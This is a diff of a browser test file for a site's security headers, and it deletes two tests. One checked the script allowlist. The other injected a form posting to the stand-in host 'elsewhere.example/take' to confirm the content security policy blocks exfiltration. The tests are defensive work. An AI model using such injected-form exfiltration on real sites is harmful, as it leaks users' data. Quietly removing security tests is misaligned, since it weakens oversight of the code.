@@ -1,5 +1,4 @@
 /** The headers of every response, and what their security policy blocks; every other test fails if it blocks more. */
-import { readdirSync } from "node:fs";
 import { firstCourse } from "../support/site-routes";
 import { expect, test } from "../support/site-test";
 import { hydrate } from "../support/page-visits";
@@ -44,15 +43,6 @@ test("every response has security headers and the right cache lifetime", async (
     });
     expect(headers, path).not.toHaveProperty("x-robots-tag");
   }
-});
-
-test("pages contain only known scripts", async ({ request }) => {
-  const policy = (await request.get("/")).headers()["content-security-policy"] ?? "";
-  const scripts = /script-src ([^;]*)/.exec(policy)?.[1]?.split(" ") ?? [];
-  expect(scripts.map((source) => source.replace(/-.*(?=')/, ""))).toEqual([
-    "'self'",
-    ...[...readdirSync("src/browser/inline"), "speculation rules"].map(() => "'sha256'"),
-  ]);
 });
 
 test("injected content neither runs, loads, nor changes the page's looks", async ({ page, pageErrors }) => {
@@ -107,16 +97,4 @@ test("injected content neither runs, loads, nor changes the page's looks", async
   await page.evaluate(() => setTimeout("document.title = 'ran'"));
   await expect.poll(() => pageErrors.seen.join("\n")).toMatch(/^Evaluating a string as JavaScript violates /m);
   await expect(page).not.toHaveTitle("ran");
-});
-
-test("an injected form cannot post to another site", async ({ page, pageErrors }) => {
-  pageErrors.expect(/form-action/);
-  await page.goto("/about");
-  await page.evaluate(() => {
-    const form = document.createElement("form");
-    form.action = "https://elsewhere.example/take";
-    document.body.append(form);
-    form.submit();
-  });
-  await expect.poll(() => pageErrors.seen.join("\n")).toMatch(/https:\/\/elsewhere\.example\/take.*form-action/);
 });
